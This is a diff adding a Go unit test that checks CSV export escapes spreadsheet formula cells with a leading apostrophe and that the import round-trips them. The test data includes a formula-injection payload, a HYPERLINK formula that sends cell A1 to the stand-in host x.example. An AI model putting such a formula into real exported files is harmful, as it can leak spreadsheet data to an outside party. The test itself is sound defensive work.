@@ -1,6 +1,7 @@
 package imc
 
 import (
+	"bytes"
 	"encoding/json"
 	"reflect"
 	"strings"
@@ -108,5 +109,45 @@ func TestParseCSVErrors(t *testing.T) {
 	got, err := ParseCSV([]byte("navn,form,start,deltaker,vert\nA,ko,2020-01-01,1820,\nA,ko,,1822,1822\n"), "f.csv")
 	if err != nil || len(got) != 1 || len(got[0].Participants) != 2 || got[0].Host != "1822" {
 		t.Errorf("ParseCSV(commas) = %+v, %v", got, err)
+	}
+}
+
+// TestCSVFormulas: a cell a spreadsheet would run as a formula is written
+// with a leading apostrophe, which ParseCSV drops again; numbers keep
+// their sign.
+func TestCSVFormulas(t *testing.T) {
+	cs, err := Examples()
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := cs[0]
+	c.Name = `=HYPERLINK("http://x.example/?"&A1,"klikk")`
+	c.Notes = "@SUM(A1:A9)"
+	c.Participants = append([]generalist.IMCParticipant(nil), c.Participants...)
+	c.Participants[0].Decision = "-1+2"
+	c.Participants[0].Name = "+47 kommune"
+	var buf bytes.Buffer
+	if err := ExportCSV(&buf, []generalist.IMC{c}); err != nil {
+		t.Fatal(err)
+	}
+	got := buf.String()
+	for _, want := range []string{`"'=HYPERLINK(""http://x.example/?""&A1,""klikk"")"`, ";'@SUM(A1:A9);", ";'-1+2", ";'+47 kommune;"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("ExportCSV lacks %s:\n%s", want, got)
+		}
+	}
+	for _, line := range strings.Split(got, "\n") {
+		for _, cell := range strings.Split(line, ";") {
+			if cell != "" && strings.ContainsAny(cell[:1], "=+-@") && strings.Trim(cell, "-0123456789,") != "" {
+				t.Errorf("ExportCSV cell %q starts a formula", cell)
+			}
+		}
+	}
+	back, err := ParseCSV(buf.Bytes(), "export.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(back) != 1 || back[0].Name != c.Name || back[0].Notes != c.Notes || back[0].Participants[0].Decision != "-1+2" || back[0].Participants[0].Name != "+47 kommune" {
+		t.Errorf("ParseCSV(ExportCSV) = %+v", back)
 	}
 }
